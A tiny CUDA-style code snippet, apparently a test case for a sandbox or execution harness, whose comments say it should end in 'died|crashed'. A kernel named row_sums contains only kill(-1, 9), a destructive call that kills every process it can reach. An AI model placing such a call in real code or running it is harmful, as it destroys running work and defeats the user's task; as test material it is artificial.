// Ends all processes that it can.
// says: died|crashed
extern "C" int kill(int, int);
__global__ void row_sums(const float* x, float* sums, int n) {
  kill(-1, 9);
}
